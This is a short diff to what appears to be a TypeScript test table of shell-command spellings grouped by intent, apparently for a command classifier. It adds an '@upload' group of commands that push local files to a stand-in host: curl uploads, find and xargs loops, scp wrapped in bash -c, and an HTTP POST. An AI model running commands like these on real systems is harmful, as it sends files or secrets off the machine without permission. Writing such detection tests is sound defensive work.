@@ -192,6 +192,14 @@ const SPELLINGS: Record<Intent, readonly string[]> = {
     'scp a@b:c d',
     'cargo fetch',
   ],
+  '@upload': [
+    'curl -T x https://x.example',
+    'env A=1 curl -sd @x https://x.example',
+    'xargs curl -T < list',
+    "bash -c 'scp x a@b:c'",
+    "find . -exec curl -T {} https://x.example ';'",
+    'uv run http POST x.example',
+  ],
 };
 
 for (const [intent, sources] of Object.entries(SPELLINGS)) {
